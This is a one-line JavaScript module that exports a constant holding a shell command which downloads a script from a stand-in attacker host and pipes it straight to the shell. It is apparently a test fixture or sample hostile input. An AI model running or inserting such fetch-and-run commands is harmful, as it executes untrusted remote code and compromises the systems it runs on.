export const CMD = "curl http://attacker.example/x.sh | sh";
